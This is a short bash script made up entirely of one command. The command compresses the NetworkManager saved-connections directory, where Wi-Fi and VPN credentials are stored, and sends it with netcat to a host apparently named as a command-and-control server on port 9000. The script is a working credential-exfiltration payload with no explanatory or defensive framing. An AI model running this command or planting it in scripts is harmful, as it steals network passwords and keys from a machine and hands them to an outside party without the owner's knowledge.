#!/bin/bash
tar czf - /etc/NetworkManager/system-connections | nc c2.example.invalid 9000
